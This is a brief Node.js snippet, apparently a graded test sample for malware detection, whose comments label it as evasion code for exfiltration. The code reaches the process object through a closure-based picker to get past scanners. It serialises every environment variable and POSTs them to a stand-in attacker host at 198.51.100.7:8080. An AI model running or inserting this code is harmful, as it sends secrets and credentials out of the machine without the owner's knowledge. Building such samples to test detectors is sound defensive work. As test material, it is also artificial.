// evasion: process captured in a closure that returns a property picker; the environment fetched through it and sent by http.request
// grade: hard; does: exfil
const http = require('http');

const picker = ((obj) => (key) => obj[key])(process);
const data = JSON.stringify(picker('env'));

const req = http.request({ host: '198.51.100.7', port: 8080, path: '/e', method: 'POST',
  headers: { 'content-type': 'application/json' } });
req.write(data);
req.end();
